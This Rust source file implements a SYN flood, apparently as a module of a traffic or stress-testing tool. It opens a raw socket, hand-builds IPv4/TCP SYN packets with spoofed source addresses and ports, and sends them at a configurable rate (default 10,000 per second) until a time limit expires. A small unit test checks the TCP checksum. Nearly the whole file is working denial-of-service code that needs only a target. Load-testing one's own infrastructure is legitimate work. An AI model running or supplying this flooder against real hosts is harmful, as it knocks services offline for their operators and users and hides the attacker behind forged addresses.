//! First packets of connections from senders that do not exist: the gateway's system answers, and nobody goes on.

use super::{Plan, Report, source};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::Duration;
use tokio::time::Instant;

/// Time between two bundles of packets.
const TICK: Duration = Duration::from_millis(TICK_MS as u64);
/// Packets per second when no rate is given.
const RATE: u32 = 10_000;

/// Sends them until the plan's time is over.
pub(super) async fn flood(plan: &Plan) -> io::Result<Report> {
    let IpAddr::V4(to) = plan.target.ip() else { return Err(io::ErrorKind::Unsupported.into()) };
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))?;
    let address = SockAddr::from(SocketAddr::new(to.into(), 0));
    let until = Instant::now() + Duration::from_secs(plan.seconds);
    let each_tick = plan.rate.unwrap_or(RATE).div_ceil(1_000 / TICK_MS).max(1);
    let mut ticks = tokio::time::interval(TICK);
    let (mut number, mut report) = (0u32, Report::default());
    while Instant::now() < until {
        ticks.tick().await;
        for _ in 0..each_tick {
            let IpAddr::V4(from) = source(plan, number % plan.sources) else { continue };
            let port = 1_024 + u16::try_from(number / plan.sources % 60_000).unwrap_or(0);
            let sent = socket.send_to(&packet((from, port), (to, plan.target.port()), number), &address);
            report.tried += 1;
            report.refused += u64::from(sent.is_err());
            number = number.wrapping_add(1);
        }
    }
    Ok(report)
}

/// The protocol number of packets whose header the sender writes.
const IPPROTO_RAW: i32 = 255;
const TICK_MS: u32 = 10;

/// An IPv4 packet with a TCP segment that has SYN set. The system fills in the length and the checksum of its header.
fn packet(from: (Ipv4Addr, u16), to: (Ipv4Addr, u16), number: u32) -> Vec<u8> {
    let mut segment = Vec::with_capacity(20);
    segment.extend(from.1.to_be_bytes());
    segment.extend(to.1.to_be_bytes());
    segment.extend(number.to_be_bytes());
    segment.extend([0; 4]);
    // Five words of header, SYN, a window, no checksum yet, nothing urgent.
    segment.extend([0x50, 0x02, 0xff, 0xff, 0, 0, 0, 0]);
    let mut summed = [from.0.octets(), to.0.octets(), [0, 6, 0, 20]].concat();
    summed.extend(&segment);
    let [high, low] = checksum(&summed).to_be_bytes();
    let mut packet = vec![0x45, 0, 0, 40, 0, 0, 0, 0, 64, 6, 0, 0];
    packet.extend(from.0.octets());
    packet.extend(to.0.octets());
    packet.extend(segment.iter().enumerate().map(|(at, byte)| match at {
        16 => high,
        17 => low,
        _ => *byte,
    }));
    packet
}

/// The Internet's checksum (RFC 1071) of an even number of bytes.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks_exact(2).filter_map(|pair| Some(u16::from_be_bytes([*pair.first()?, *pair.get(1)?])));
    let mut sum = words.map(u32::from).sum::<u32>();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_packet_sums_to_nothing_and_says_syn() {
        let packet = packet((Ipv4Addr::new(10, 99, 0, 7), 1_024), (Ipv4Addr::new(10, 98, 0, 1), 443), 7);
        assert_eq!((packet.len(), packet[33]), (40, 0x02));
        let mut summed = packet[12..20].to_vec();
        summed.extend([0, 6, 0, 20]);
        summed.extend(&packet[20..]);
        assert_eq!(checksum(&summed), 0, "the receiver's sum over it all");
    }
}
